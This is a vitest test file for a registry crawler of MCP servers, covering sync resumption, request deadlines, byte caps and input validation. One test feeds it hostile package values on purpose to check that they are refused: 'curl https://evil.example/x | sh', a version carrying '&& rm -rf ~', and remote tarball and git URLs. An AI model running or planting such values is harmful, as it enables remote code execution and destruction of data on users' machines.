import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { eq } from 'drizzle-orm';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { gatherSources, parseSources } from '../../cli/crawl-sources.ts';
import { UsageError } from '../../cli/errors.ts';
import { fetchRegistry, mapRegistryEntry, markSyncListed, runCrawl, settleRegistrySync, syncRegistry } from '../../crawler/index.ts';
import { crawlAttempts, getState, upsertServers } from '../../db/index.ts';
import { testBackends, type TestDatabase } from '../helpers/databases.ts';
import { startRegistry, type LoopbackRegistry } from '../fixtures/servers/registry.ts';
import { LOOPBACK_ONLY } from './helpers.ts';

const OFFICIAL = 'io.modelcontextprotocol.registry/official';

/**
 * A registry entry with one remote on a public name: crawled with the loopback-only allowlist it is refused
 * at once, without any connection, which is all these tests need from a crawl.
 */
function entry(name: string, updatedAt: string, server: Record<string, unknown> = {}) {
  return {
    server: { name, version: '1.0.0', remotes: [{ type: 'streamable-http', url: `https://${name.replace(/\W/g, '-')}.example.com/mcp` }], ...server },
    _meta: { [OFFICIAL]: { status: 'active', publishedAt: updatedAt, updatedAt, isLatest: true } },
  };
}

describe.each(testBackends())('registry sync that never loses a server, on $name', (backend) => {
  let db: TestDatabase;
  let entries: unknown[];
  let registry: LoopbackRegistry;
  beforeEach(async () => {
    db = await backend.create();
    entries = ['a', 'b', 'c', 'd'].map((n) => entry(`test/${n}`, '2026-01-01T00:00:00Z'));
    registry = await startRegistry(() => entries);
  });
  afterEach(async () => {
    await registry.close();
    await db.dispose();
  });
  const state = () => getState<{ lastSyncAt?: string; pending?: string[] }>(db.orm, `registry-sync:${registry.url}`);

  it('an interrupted run: the since-point stays, and its unfinished servers are crawled by the next run whatever --since says', async () => {
    const first = await syncRegistry(db.orm, { baseUrl: registry.url, since: 'auto', now: () => new Date('2026-01-02T00:00:00Z') });
    await markSyncListed(db.orm, first);
    // Interrupted (Ctrl-C) once the first server is done, before the others started; runCrawl had stored them all.
    await upsertServers(
      db.orm,
      first.servers.map((s) => s.server),
      new Date('2026-01-02T00:00:00Z'),
    );
    const controller = new AbortController();
    const interrupted = await runCrawl(db.orm, first.servers.slice(0, 1), {
      ...LOOPBACK_ONLY,
      signal: controller.signal,
      onProgress: () => controller.abort(),
    });
    expect(interrupted.status).toBe('interrupted');
    expect(interrupted.results).toHaveLength(1);
    await settleRegistrySync(db.orm, first, interrupted);
    expect(await state()).toEqual({ pending: ['test/b', 'test/c', 'test/d'] });

    // The next run asks only for what changed since yesterday (nothing), yet crawls the three left over.
    const next = await syncRegistry(db.orm, { baseUrl: registry.url, since: new Date('2026-01-05T00:00:00Z'), now: () => new Date('2026-01-06T00:00:00Z') });
    expect(registry.served.at(-1)).toBe(0);
    expect(next.carriedOver.sort()).toEqual(['test/b', 'test/c', 'test/d']);
    expect(next.servers.map((s) => s.server.id).sort()).toEqual(['test/b', 'test/c', 'test/d']);
    expect(next.servers[0].targets[0]).toMatchObject({ kind: 'remote', url: expect.stringMatching(/example\.com/) });
    await markSyncListed(db.orm, next);
    const completed = await runCrawl(db.orm, next.servers, LOOPBACK_ONLY);
    await settleRegistrySync(db.orm, next, completed);
    expect(await state()).toEqual({ pending: [], lastSyncAt: '2026-01-06T00:00:00.000Z' });
  });

  it('a crawler killed between listing and storing: the pending servers it never stored come from a full listing', async () => {
    const first = await syncRegistry(db.orm, { baseUrl: registry.url, since: 'auto', now: () => new Date('2026-01-02T00:00:00Z') });
    await markSyncListed(db.orm, first);
    // Killed here: nothing stored, nothing settled.
    const next = await syncRegistry(db.orm, { baseUrl: registry.url, since: new Date('2026-01-05T00:00:00Z') });
    expect(next.updatedSince).toBeUndefined();
    expect(next.servers.map((s) => s.server.id).sort()).toEqual(['test/a', 'test/b', 'test/c', 'test/d']);
  });

  it('a failed crawl does not move the since-point; the next --since auto asks from the last completed sync', async () => {
    const first = await syncRegistry(db.orm, { baseUrl: registry.url, since: 'auto', now: () => new Date('2026-01-02T00:00:00Z') });
    await markSyncListed(db.orm, first);
    await settleRegistrySync(db.orm, first, await runCrawl(db.orm, first.servers, LOOPBACK_ONLY));
    const second = await syncRegistry(db.orm, { baseUrl: registry.url, since: 'auto', now: () => new Date('2026-01-03T00:00:00Z') });
    await markSyncListed(db.orm, second);
    // The run fails (no settle with a completed run): the point stays where the first sync put it.
    await settleRegistrySync(db.orm, second, { runId: -1, status: 'failed' });
    await syncRegistry(db.orm, { baseUrl: registry.url, since: 'auto' });
    expect(registry.requests.at(-1)).toContain(`updated_since=${encodeURIComponent('2026-01-02T00:00:00.000Z')}`);
  });

  it('--only with --since auto crawls the named servers even when they did not change', async () => {
    const first = await syncRegistry(db.orm, { baseUrl: registry.url, since: 'auto' });
    await markSyncListed(db.orm, first);
    await settleRegistrySync(db.orm, first, await runCrawl(db.orm, first.servers, LOOPBACK_ONLY));
    const sources = await parseSources({ registry: registry.url, since: 'auto', only: ['test/c'] });
    const gathered = await gatherSources(sources, db.orm);
    expect(registry.served.at(-1)).toBe(0);
    expect(gathered.servers.map((s) => s.server.id)).toEqual(['test/c']);
    // A name the catalogue has never seen is still a usage error.
    await expect(gatherSources(await parseSources({ registry: registry.url, since: 'auto', only: ['test/nobody'] }), db.orm)).rejects.toThrow(
      /--only names servers the sources do not list/,
    );
  });

  it('an environment variable with an empty name costs that variable, not the server; one warning per server, not per version', async () => {
    const broken = (version: string) => ({
      ...entry('test/empty-env', '2026-01-01T00:00:00Z', {
        version,
        remotes: undefined,
        packages: [
          {
            registryType: 'npm',
            identifier: 'some-server',
            version,
            transport: { type: 'stdio' },
            environmentVariables: [
              { name: '', isRequired: true },
              { name: 'GOOD_TOKEN', isSecret: true },
            ],
          },
        ],
      }),
      _meta: {
        [OFFICIAL]: { status: 'active', publishedAt: `2026-01-0${version.at(-1)}T00:00:00Z`, updatedAt: '2026-01-01T00:00:00Z', isLatest: version === '1.0.3' },
      },
    });
    entries = [broken('1.0.1'), broken('1.0.2'), broken('1.0.3')];
    const sync = await syncRegistry(db.orm, { baseUrl: registry.url });
    expect(sync.servers.map((s) => s.server.id)).toEqual(['test/empty-env']);
    expect(sync.servers[0].targets[0]).toMatchObject({ kind: 'npm', version: '1.0.3', env: { GOOD_TOKEN: 'TOOLRISK_PLACEHOLDER_GOOD_TOKEN' } });
    expect(sync.problems).toEqual([expect.stringMatching(/^"test\/empty-env": packages\[0\]\.environmentVariables\[0\]: name .*; dropped$/)]);
  });

  it('two targets with one label (a URL with and without a header) keep an attempt record each', async () => {
    const url = 'https://twice.example.com/mcp';
    entries = [
      entry('test/twice', '2026-01-01T00:00:00Z', {
        remotes: [
          { type: 'streamable-http', url },
          { type: 'streamable-http', url, headers: [{ name: 'Authorization', isRequired: true, isSecret: true }] },
          { type: 'streamable-http', url },
        ],
      }),
    ];
    const sync = await syncRegistry(db.orm, { baseUrl: registry.url });
    const summary = await runCrawl(db.orm, sync.servers, LOOPBACK_ONLY);
    const attempts = await db.orm.select().from(crawlAttempts).where(eq(crawlAttempts.runId, summary.runId));
    expect(attempts.map((a) => a.target).sort()).toEqual([`streamable-http:${url}`, `streamable-http:${url} #2`, `streamable-http:${url} [Authorization]`]);
  });
});

describe('registry requests', () => {
  const servers: Server[] = [];
  afterEach(async () => {
    for (const server of servers.splice(0)) {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
  });
  async function serve(handler: Parameters<typeof createServer>[1]): Promise<string> {
    const server = createServer(handler);
    servers.push(server);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  }
  const noRetry = { retries: 0, baseDelayMs: 0 };

  it('a registry that never answers fails cleanly at the request deadline', async () => {
    const url = await serve(() => undefined);
    const began = Date.now();
    await expect(fetchRegistry({ baseUrl: url, requestTimeoutMs: 500, retry: noRetry })).rejects.toThrow(
      /did not answer .* within 500 ms \(limit requestTimeoutMs\)/,
    );
    expect(Date.now() - began).toBeLessThan(5_000);
  });

  it('a registry that sends headers and then trickles forever fails at the same deadline', async () => {
    const url = await serve((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.write('{"servers": [');
      const timer = setInterval(() => res.write(' '), 50);
      res.on('close', () => clearInterval(timer));
    });
    await expect(fetchRegistry({ baseUrl: url, requestTimeoutMs: 700, retry: noRetry })).rejects.toThrow(/within 700 ms/);
  });

  it('an endless body is cut at the byte cap, never held', async () => {
    const url = await serve((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      const chunk = Buffer.alloc(64 * 1024, 0x20);
      const pump = () => {
        while (res.write(chunk));
      };
      res.on('drain', pump);
      pump();
    });
    const before = process.memoryUsage().rss;
    await expect(fetchRegistry({ baseUrl: url, maxPageBytes: 1024 * 1024, retry: noRetry })).rejects.toThrow(/passed 1048576 bytes \(limit maxMessageBytes\)/);
    expect(process.memoryUsage().rss - before).toBeLessThan(200 * 1024 * 1024);
  });

  it('a non-JSON body with terminal escapes is reported without raw control bytes', async () => {
    const url = await serve((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/plain' });
      res.end('\u001b]0;pwned\u0007\u001b[2J\u001b[31mnot json');
    });
    const error = await fetchRegistry({ baseUrl: url, retry: noRetry }).catch((e: Error) => e);
    expect(error).toBeInstanceOf(Error);
    expect((error as Error).message).toMatch(/is not JSON; it begins "\\u001b\]0;pwned\\u0007/);
    // eslint-disable-next-line no-control-regex
    expect((error as Error).message).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
  });

  it('--since must be a real date: -1 (which Date reads as 2001) and loose spellings are usage errors', async () => {
    for (const since of ['-1', '1', 'yesterday', '2026-13-01', 'Jan 5']) {
      const error = await parseSources({ registry: 'http://127.0.0.1:9', since }).catch((e: Error) => e);
      expect(error).toBeInstanceOf(UsageError);
      expect((error as Error).message).toMatch(/--since must be/);
    }
    await expect(parseSources({ registry: 'http://127.0.0.1:9', since: '2026-01-31' })).resolves.toMatchObject({ since: new Date('2026-01-31T00:00:00Z') });
    await expect(parseSources({ registry: 'http://127.0.0.1:9', since: 'auto' })).resolves.toMatchObject({ since: 'auto' });
  });
});

describe('registry package fields', () => {
  const pkg = (fields: Record<string, unknown>) =>
    mapRegistryEntry({ server: { name: 'test/pkg', packages: [{ registryType: 'npm', version: '1.0.0', transport: { type: 'stdio' }, ...fields }] } });

  it('an identifier or version that is not a plain npm name or semver never reaches npm or the stored packages', () => {
    for (const [identifier, version] of [
      ['--registry=http://127.0.0.1:9/', '1.0.0'],
      ['left-pad', 'file:/etc'],
      ['left-pad', 'https://evil.example/x.tgz'],
      ['curl https://evil.example/x | sh', '1.0.0'],
      ['left-pad', '1.0.0 && rm -rf ~'],
    ]) {
      const mapped = pkg({ identifier, version });
      expect(mapped.server.packages).toEqual([]);
      expect(mapped.targets).toEqual([
        expect.objectContaining({ kind: 'unrunnable', outcome: 'refused_by_policy', reason: expect.stringMatching(/never installed or shown/) }),
      ]);
      expect(mapped.problems).toEqual([expect.stringMatching(/^packages\[0\]: .* is not an npm (package name|version, range or dist-tag); dropped$/)]);
    }
    const pypi = mapRegistryEntry({
      server: { name: 'test/py', packages: [{ registryType: 'pypi', identifier: '-e git+https://evil.example/x', version: '1.0' }] },
    });
    expect(pypi.targets[0]).toMatchObject({ outcome: 'refused_by_policy' });
    expect(pkg({ identifier: '@scope/good-name', version: '^1.2.3' }).targets[0]).toMatchObject({
      kind: 'npm',
      package: '@scope/good-name',
      version: '^1.2.3',
    });
  });

  it('every declared input without a default gets a placeholder typed by its format; named arguments get their dashes', () => {
    const mapped = pkg({
      identifier: 'typed-server',
      packageArguments: [
        { type: 'positional', valueHint: 'directory', format: 'filepath' },
        { type: 'named', name: 'allowed-directories', format: 'filepath' },
        { type: 'named', name: '--port', format: 'number' },
        { type: 'named', name: 'api-url' },
        { type: 'named', name: 'verbose', format: 'boolean' },
        { type: 'named', name: 'mode', value: 'stdio' },
        { type: 'positional', value: 'serve' },
      ],
      environmentVariables: [
        { name: 'SECRET_NOT_REQUIRED', isSecret: true },
        { name: 'PLAIN_NOT_REQUIRED' },
        { name: 'BASE_URL', format: 'string' },
        { name: 'TIMEOUT', format: 'number' },
        { name: 'LEVEL', choices: ['info', 'debug'] },
        { name: 'WITH_DEFAULT', default: 'x' },
        { name: 'TEMPLATED', value: '{api_key}' },
      ],
    });
    expect(mapped.targets[0]).toMatchObject({
      kind: 'npm',
      args: ['/tmp', '--allowed-directories', '/tmp', '--port', '8080', '--api-url', 'https://toolrisk-placeholder.invalid/', '--mode', 'stdio', 'serve'],
      env: {
        SECRET_NOT_REQUIRED: 'TOOLRISK_PLACEHOLDER_SECRET_NOT_REQUIRED',
        PLAIN_NOT_REQUIRED: 'TOOLRISK_PLACEHOLDER_PLAIN_NOT_REQUIRED',
        BASE_URL: 'https://toolrisk-placeholder.invalid/',
        TIMEOUT: '1',
        LEVEL: 'info',
        WITH_DEFAULT: 'x',
        TEMPLATED: 'TOOLRISK_PLACEHOLDER_TEMPLATED',
      },
      placeholders: [
        'directory',
        'allowed-directories',
        '--port',
        'api-url',
        'SECRET_NOT_REQUIRED',
        'PLAIN_NOT_REQUIRED',
        'BASE_URL',
        'TIMEOUT',
        'LEVEL',
        'TEMPLATED',
      ],
    });
  });
});
